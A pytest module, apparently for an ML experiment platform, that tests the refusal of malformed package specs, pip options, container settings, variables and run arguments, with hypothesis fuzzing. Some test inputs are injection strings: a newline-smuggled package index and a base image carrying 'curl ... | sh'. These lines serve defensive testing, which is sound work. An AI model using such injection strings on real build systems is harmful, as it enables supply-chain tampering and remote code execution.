"""Inputs are checked before anything is queued: package specs (one requirement per entry,
options only as the supported options, the same rule for every way in) and the types of what
a run is submitted with. Real workspaces, real files; hypothesis fuzzes the package specs."""

from __future__ import annotations

import contextlib
import math
import textwrap
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from runyard import Environment, Experiment, InvalidParameter, ScriptRunConfig, Workspace
from runyard.environments.conda_dependencies import CondaDependencies
from runyard.environments.requirements import parse_requirements
from runyard.environments.spec import environment_request
from runyard.environments.specrules import PIP_OPTIONS
from runyard.store.base import RunFilter

VARS = "environment.environment_variables"
SMUGGLED = "six\n--index-url http://127.0.0.1:9/simple"
FUZZ = settings(max_examples=300, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])


def env_of(cd: CondaDependencies) -> Environment:
    env = Environment("fuzz")
    env.python.conda_dependencies = cd
    return env


def builder_lines(request: dict[str, Any]) -> list[str]:
    """The lines of the requirements file the uv/container builders write from a request."""
    plan = request["plan"]
    reqs = [*plan.get("pip_options", []), *plan.get("requirements", [])]
    return "".join(f"{r}\n" for r in reqs).splitlines()


def assert_one_line_each(request: dict[str, Any]) -> None:
    plan = request["plan"]
    lines = builder_lines(request)
    assert len(lines) == len(plan["pip_options"]) + len(plan["requirements"])
    for line in lines[len(plan["pip_options"]):]:
        assert not line.lstrip().startswith("-"), line
        assert " -" not in line and "\t-" not in line, line
    for opt in plan["pip_options"]:
        assert opt.split()[0] in PIP_OPTIONS, opt


# -- the reproduced findings ---------------------------------------------------------------------
def test_a_newline_cannot_smuggle_an_index_into_pip_packages() -> None:
    with pytest.raises(InvalidParameter, match="newline") as info:
        CondaDependencies.create(pip_packages=[SMUGGLED])
    assert info.value.field == "pip_package"
    cd = CondaDependencies()
    with pytest.raises(InvalidParameter):
        cd.set_pip_requirements(["tomli", SMUGGLED])
    with pytest.raises(InvalidParameter, match="pip option"):
        cd.add_pip_package("six --index-url http://127.0.0.1:9/simple")
    with pytest.raises(InvalidParameter, match="continuation"):
        cd.add_pip_package("six \\")


def test_editable_installs_are_refused_on_every_way_in(tmp_path: Path) -> None:
    with pytest.raises(InvalidParameter, match="editable"):
        CondaDependencies().set_pip_option("-e git+https://example.org/x.git#egg=x")
    with pytest.raises(InvalidParameter, match="editable"):
        CondaDependencies().set_pip_option("--editable=git+https://example.org/x.git")
    yml = tmp_path / "environment.yml"
    yml.write_text("dependencies:\n- python=3.11\n- pip:\n  - six\n"
                   "  - -e git+https://example.org/x.git#egg=x\n")
    with pytest.raises(InvalidParameter, match=r"pip\[1\].*editable"):
        Environment.from_conda_specification("e", yml)
    req = tmp_path / "requirements.txt"
    req.write_text("six\n-e git+https://example.org/x.git#egg=x\n")
    with pytest.raises(InvalidParameter, match="editable"):
        Environment.from_pip_requirements("e", req)
    with pytest.raises(InvalidParameter, match="pip_package"):
        CondaDependencies().add_pip_package("git+https://example.org/x.git")


def test_unsupported_options_and_bad_values_are_refused() -> None:
    cd = CondaDependencies()
    for bad, match in [("--no-deps", "unsupported pip option"),
                       ("--global-option=build_ext", "unsupported pip option"),
                       ("-c constraints.txt", "constraint"),
                       ("--index-url file:///srv/wheels", "http:// or https://"),
                       ("--find-links /srv/wheels", "http:// or https://"),
                       ("--index-url http://a/simple --pre", "one value"),
                       ("--trusted-host a;b", "host name"),
                       ("--pre yes", "takes no value")]:
        with pytest.raises(InvalidParameter, match=match):
            cd.set_pip_option(bad)
    cd.set_pip_option("-i=https://pypi.example/simple")
    cd.set_pip_option("--find-links=https://wheels.example/")
    cd.set_pip_option("--only-binary :all:")
    cd.add_pip_package("mypkg @ https://wheels.example/mypkg-1.0-py3-none-any.whl")
    assert cd.pip_options == ["--index-url https://pypi.example/simple",
                              "--find-links https://wheels.example/", "--only-binary :all:"]


def test_a_structure_edited_in_place_is_checked_before_a_builder_sees_it() -> None:
    """``normalize`` is the one gate: a spec that bypassed the API checks still never reaches
    a builder."""
    for entry in (SMUGGLED, "-e git+https://example.org/x.git", "six\x00"):
        cd = CondaDependencies.create(pip_packages=["tomli"])
        cd._data["dependencies"][-1]["pip"].append(entry)
        with pytest.raises(InvalidParameter, match="conda_dependencies"):
            environment_request(env_of(cd))
    cd = CondaDependencies.create(conda_packages=["numpy"])
    cd._data["dependencies"].append("scipy\n- --index-url http://127.0.0.1:9/simple")
    with pytest.raises(InvalidParameter, match="newline"):
        environment_request(env_of(cd))


def test_container_and_variable_injection_is_refused() -> None:
    env = env_of(CondaDependencies.create(pip_packages=["six"]))
    env.docker.enabled = True
    env.docker.base_image = "python:3.11-slim\nRUN curl http://127.0.0.1:9/x | sh"
    with pytest.raises(InvalidParameter, match="base_image"):
        environment_request(env)
    with pytest.raises(InvalidParameter, match="variables"):
        CondaDependencies.from_string("dependencies: [six]\nvariables:\n  'A\\nRUN x': '1'\n")


# -- fuzz ----------------------------------------------------------------------------------------
_BAD_PART = st.sampled_from(["\n", "\r", "\x00", "\x0b", "\x85", "\u2028", "\r\n"])
_TEXT = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)


@st.composite
def smuggling_specs(draw: st.DrawFn) -> str:
    """A spec with a newline/NUL-like character somewhere, or with a leading '-'."""
    head, tail = draw(_TEXT), draw(_TEXT)
    if draw(st.booleans()):
        return head + draw(_BAD_PART) + tail
    return draw(st.sampled_from(["", " ", "\t"])) + "-" + tail


@FUZZ
@given(spec=smuggling_specs())
def test_fuzz_smuggling_specs_are_refused_on_every_way_in(spec: str, tmp_path: Path) -> None:
    with pytest.raises(InvalidParameter):
        CondaDependencies().add_pip_package(spec)
    with pytest.raises(InvalidParameter):
        CondaDependencies.create(pip_packages=["tomli", spec])
    with pytest.raises(InvalidParameter):
        CondaDependencies().add_conda_package(spec) if not spec.lstrip().startswith("-") \
            else CondaDependencies().add_pip_package(spec)
    if any(c in spec for c in "\n\r\x00\x0b\x85\u2028"):
        with pytest.raises(InvalidParameter):
            CondaDependencies().set_pip_option("--index-url " + spec)
    structure = {"dependencies": ["pip", {"pip": ["tomli", spec]}]}
    try:
        CondaDependencies(_underlying_structure=structure)
    except InvalidParameter:
        pass
    else:  # accepted as a pip option: then it is one canonical, supported option
        assert CondaDependencies(_underlying_structure=structure).pip_options
    # bypassing the API: the request (what a builder receives) is refused or one line each
    cd = CondaDependencies.create(pip_packages=["tomli"])
    cd._data["dependencies"][-1]["pip"].append(spec)
    try:
        request = environment_request(env_of(cd))
    except InvalidParameter:
        return
    assert request is not None
    assert_one_line_each(request)


@FUZZ
@given(spec=_TEXT, option=_TEXT)
def test_fuzz_whatever_is_accepted_reaches_the_builder_one_line_each(spec: str,
                                                                     option: str) -> None:
    cd = CondaDependencies.create(pip_packages=["tomli"])
    for call in (lambda: cd.add_pip_package(spec), lambda: cd.set_pip_option(option),
                 lambda: cd.set_pip_option("--extra-index-url " + option)):
        with contextlib.suppress(InvalidParameter):
            call()
    request = environment_request(env_of(cd))
    assert request is not None
    assert_one_line_each(request)


@FUZZ
@given(line=st.text(st.characters(blacklist_categories=("Cs",)), max_size=60))
@example(line="six --index-url http://127.0.0.1:9/simple")
@example(line="six \x00 --pre")
def test_fuzz_requirements_files_follow_the_same_rule(line: str, tmp_path: Path) -> None:
    f = tmp_path / "requirements.txt"
    f.write_text(f"six\n{line}\n", encoding="utf-8", errors="surrogatepass")
    try:
        reqs, opts = parse_requirements(f)
    except InvalidParameter:
        return
    for r in reqs:
        assert r.splitlines() == [r] and not r.startswith("-") and " -" not in r
    for o in opts:
        assert o.splitlines() == [o] and o.split()[0] in PIP_OPTIONS


# -- submit: types are checked before anything is stored -----------------------------------------
@pytest.fixture
def ws(tmp_path: Path) -> Workspace:
    return Workspace.create("ws", tmp_path / "ws", max_concurrent_runs=2)


@pytest.fixture
def src(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "train.py").write_text(textwrap.dedent("""\
        import json, os, sys
        os.makedirs("outputs", exist_ok=True)
        json.dump({"argv": sys.argv[1:], "epochs": os.environ.get("EPOCHS")},
                  open("outputs/seen.json", "w"))
    """))
    return folder


def nothing_stored(ws: Workspace) -> bool:
    return ws.store.list_runs(RunFilter()) == []


def _cfg(src: Path, **kw: Any) -> ScriptRunConfig:
    return ScriptRunConfig(str(src), kw.pop("script", "train.py"), **kw)


def _with_env(src: Path, key: Any, value: Any) -> ScriptRunConfig:
    cfg = _cfg(src)
    cfg.run_config.environment.environment_variables[key] = value
    return cfg


def _with_attr(src: Path, **attrs: Any) -> ScriptRunConfig:
    cfg = _cfg(src)
    for k, v in attrs.items():
        setattr(cfg.run_config, k, v)
    return cfg


BAD_SUBMITS: list[tuple[str, Any, str]] = [
    ("nul in an argument", lambda s: _cfg(s, arguments=["--x", "a\x00b"]), "arguments[1]"),
    ("object argument", lambda s: _cfg(s, arguments=[object()]), "arguments[0]"),
    ("None argument", lambda s: _cfg(s, arguments=["--x", None]), "arguments[1]"),
    ("env key with =", lambda s: _with_env(s, "A=B", "1"), VARS),
    ("empty env key", lambda s: _with_env(s, "", "1"), VARS),
    ("env key with NUL", lambda s: _with_env(s, "A\x00", "1"), VARS),
    ("non-string env key", lambda s: _with_env(s, 3, "1"), VARS),
    ("bool env value", lambda s: _with_env(s, "A", True), VARS),
    ("None env value", lambda s: _with_env(s, "A", None), VARS),
    ("env value with NUL", lambda s: _with_env(s, "A", "x\x00y"), VARS),
    ("the secret key as a variable",
     lambda s: _with_env(s, "RUNYARD_SECRET_KEY", "k"), VARS),
    ("script=123", lambda s: _cfg(s, script=123), "script"),
    ("script with NUL", lambda s: _cfg(s, script="train.py\x00"), "script"),
    ("environment set to a string later", lambda s: _with_attr(s, environment="my-env"),
     "environment"),
    ("NaN duration", lambda s: _cfg(s, max_run_duration_seconds=math.nan),
     "max_run_duration_seconds"),
    ("inf duration", lambda s: _cfg(s, max_run_duration_seconds=math.inf),
     "max_run_duration_seconds"),
    ("bool duration", lambda s: _cfg(s, max_run_duration_seconds=True),
     "max_run_duration_seconds"),
    ("command with NUL", lambda s: _with_attr(s, script=None, command=["python", "a\x00"]),
     "command[1]"),
]


@pytest.mark.parametrize(("what", "make", "field"), BAD_SUBMITS,
                         ids=[b[0] for b in BAD_SUBMITS])
def test_bad_submissions_are_refused_naming_the_field(ws: Workspace, src: Path, what: str,
                                                      make: Any, field: str) -> None:
    with pytest.raises(InvalidParameter) as info:
        Experiment(ws, "inputs").submit(make(src))
    assert info.value.field.startswith(field), (what, info.value.field, str(info.value))
    assert nothing_stored(ws)


@pytest.mark.parametrize(("kwargs", "field"), [
    ({"arguments": "abc"}, "arguments"),
    ({"arguments": 7}, "arguments"),
    ({"environment": "my-env"}, "environment"),
    ({"run_config": {"target": "local"}}, "run_config"),
    ({"source_directory": 123}, "source_directory"),
])
def test_script_run_config_refuses_wrong_types_at_once(src: Path, kwargs: dict[str, Any],
                                                       field: str) -> None:
    kwargs.setdefault("source_directory", str(src))
    with pytest.raises(InvalidParameter) as info:
        ScriptRunConfig(script="train.py", **kwargs)
    assert info.value.field == field


@pytest.mark.parametrize(("tags", "field"), [
    ({1: "x"}, "tags"), ({"": "x"}, "tags"), ({"a\x00": "x"}, "tags"),
    ({"k" * 256: "x"}, "tags"), ({"a": object()}, "tags['a']"),
    ({"a": "b\x00c"}, "tags['a']"), (["a", "b"], "tags"),
])
def test_bad_tags_are_refused_before_anything_is_stored(ws: Workspace, src: Path, tags: Any,
                                                        field: str) -> None:
    with pytest.raises(InvalidParameter) as info:
        Experiment(ws, "inputs").submit(_cfg(src), tags=tags)
    assert info.value.field == field
    assert nothing_stored(ws)


def test_a_bad_package_spec_stores_nothing(ws: Workspace, src: Path) -> None:
    cd = CondaDependencies.create(pip_packages=["tomli"])
    cd._data["dependencies"][-1]["pip"].append(SMUGGLED)
    with pytest.raises(InvalidParameter, match="newline"):
        Experiment(ws, "inputs").submit(_cfg(src, environment=env_of(cd)))
    assert nothing_stored(ws)


def test_numbers_as_variables_and_arguments_reach_the_script_as_strings(ws: Workspace,
                                                                        src: Path) -> None:
    """Decision: int/float variable values are converted with ``str()`` (Azure ML v1 scripts
    pass them), not refused."""
    cfg = _cfg(src, arguments=["--epochs", 3, "--lr", 0.5])
    cfg.run_config.environment.environment_variables["EPOCHS"] = 3
    run = Experiment(ws, "inputs").submit(cfg)
    record = ws.store.get_run(run.id)
    assert record is not None and record.definition["job"]["env"]["EPOCHS"] == "3"
    assert run.wait_for_completion()["status"] == "Completed"
    out = Path(run.download_file("outputs/seen.json", str(src.parent / "seen.json")))
    import json

    assert json.loads(out.read_text()) == {"argv": ["--epochs", "3", "--lr", "0.5"],
                                           "epochs": "3"}
